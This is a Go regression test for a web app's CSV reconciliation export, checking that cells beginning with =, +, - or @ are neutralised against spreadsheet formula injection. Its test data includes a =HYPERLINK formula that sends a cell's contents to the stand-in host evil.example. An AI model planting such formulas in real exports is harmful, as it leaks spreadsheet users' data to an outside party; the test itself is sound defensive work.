package web_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/vocdesk/vocdesk/sqlstore"
	"github.com/vocdesk/vocdesk/sqlstore/sqlstoretest"
)

// Finding 7: exceptions.csv neutralises cells that a spreadsheet would run
// as formulas (OWASP: a leading single quote). Before: the txid came back
// as =HYPERLINK(...), live in Excel.
func TestExceptionsCSVNeutralisesFormulas(t *testing.T) {
	sqlstoretest.Engines(t, func(t *testing.T, db *sqlstore.DB) {
		e := newEnv(t, db)
		h := http.Header{"Authorization": {"Bearer " + e.a.key}, "Content-Type": {"text/csv"}}
		log := "txid,tid,amount,currency\n" +
			"\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",@t1,100,KRW\n" +
			"+cmd,-t2,100,KRW\n"
		res := serve(e.srv, "POST", "/api/v1/reconciliations?from=2024-01-01T00:00:00Z&to=2025-01-01T00:00:00Z&map=txid=txid,tid=tid", log, h)
		if res.Code != http.StatusCreated {
			t.Fatalf("upload: %d %s", res.Code, res.Body)
		}
		var rep struct{ ID int64 }
		_ = json.Unmarshal(res.Body.Bytes(), &rep)
		out := serve(e.srv, "GET", fmt.Sprintf("/api/v1/reconciliations/%d/exceptions.csv?category=delivered_not_paid", rep.ID), "", bearer(e.a.key))
		recs, err := csv.NewReader(strings.NewReader(out.Body.String())).ReadAll()
		if err != nil || len(recs) != 3 {
			t.Fatalf("exceptions.csv: %v\n%s", err, out.Body)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec[1:3] {
				if c := cell[0]; c == '=' || c == '+' || c == '-' || c == '@' {
					t.Errorf("cell %q would run as a formula", cell)
				}
				if !strings.HasPrefix(cell, "'") {
					t.Errorf("cell %q is not neutralised", cell)
				}
			}
		}
	})
}
